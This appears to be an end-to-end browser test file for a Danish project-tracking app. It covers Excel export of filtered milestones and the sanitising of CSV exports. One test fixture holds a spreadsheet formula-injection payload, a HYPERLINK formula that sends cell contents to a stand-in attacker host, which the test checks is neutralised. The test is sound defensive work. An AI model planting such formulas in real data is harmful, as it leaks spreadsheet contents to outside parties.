import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { ARTIFACTS, screenshot, signInThroughForm, useBrowserApp } from '../support/browser';
import { DEMO, Session } from '../support/session';

/** Issue 6's story: exporting the filtered milestones to .xlsx and reading the file back. */
describe('exporting a list in a browser', () => {
  const web = useBrowserApp({ page: { acceptDownloads: true } });

  it('downloads the milestones with the list’s filter as Excel, every row, in Danish', async () => {
    const filter = encodeURIComponent(JSON.stringify({ status: 'done' }));
    await web.page.goto(`${web.app.url}/#/milestones?filter=${filter}&perPage=5`);
    await signInThroughForm(web.page, DEMO.secretariat);
    await web.page.locator('table tbody tr').first().waitFor({ timeout: 20_000 });
    const total = Number(
      /af (\d+)/.exec(
        (await web.page.locator('.MuiTablePagination-displayedRows').textContent()) ?? '',
      )?.[1],
    );

    await web.page.getByRole('button', { name: 'Eksportér' }).click();
    const [download] = await Promise.all([
      web.page.waitForEvent('download'),
      web.page.getByRole('menuitem', { name: 'Excel (.xlsx)' }).click(),
    ]);
    await screenshot(web.page, 'export-milestones');
    expect(download.suggestedFilename()).toBe('pejling-milestones.xlsx');
    const file = join(ARTIFACTS, 'export-milestones.xlsx');
    await download.saveAs(file);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await readFile(file)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    expect(rows[0].slice(4, 9)).toEqual(['Titel', 'Beskrivelse', 'Frist', 'Ansvarlig', 'Status']);
    // Every matching row, not the page of 5.
    expect(total).toBeGreaterThan(5);
    expect(rows.length - 1).toBe(total);
    expect(new Set(rows.slice(1).map((row) => row[8]))).toEqual(new Set(['Færdig']));
    expect(rows[1][6]).toBeInstanceOf(Date);
  });

  it('writes a CSV of any list in which a name a spreadsheet would run is plain text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
    const api = new Session(web.app.url);
    await api.signIn(DEMO.secretariat);
    const created = await api.fetch('/api/organisations', {
      method: 'POST',
      body: JSON.stringify({ name: formula, shortName: 'EVIL', kind: 'other' }),
    });
    expect(created.status).toBe(201);

    await web.page.goto(
      `${web.app.url}/#/organisations?filter=${encodeURIComponent('{"q":"EVIL"}')}`,
    );
    await signInThroughForm(web.page, DEMO.secretariat);
    await web.page.locator('table tbody tr').first().waitFor({ timeout: 20_000 });
    const [download] = await Promise.all([
      web.page.waitForEvent('download'),
      web.page.getByRole('button', { name: 'Eksportér' }).click(),
    ]);
    const csv = await readFile(await download.path(), 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
